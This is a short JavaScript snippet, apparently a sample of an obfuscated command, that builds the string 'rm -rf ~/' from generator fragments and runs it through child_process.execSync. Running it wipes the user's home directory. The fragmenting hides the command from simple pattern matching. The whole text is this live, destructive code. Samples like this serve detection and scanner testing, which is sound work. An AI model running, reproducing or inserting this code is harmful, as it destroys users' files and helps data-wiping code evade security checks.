// tricky: pieces from a generator
function* g() { yield 'rm'; yield ' -rf'; yield ' ~/'; }
require('child_process').execSync([...g()].join(''));
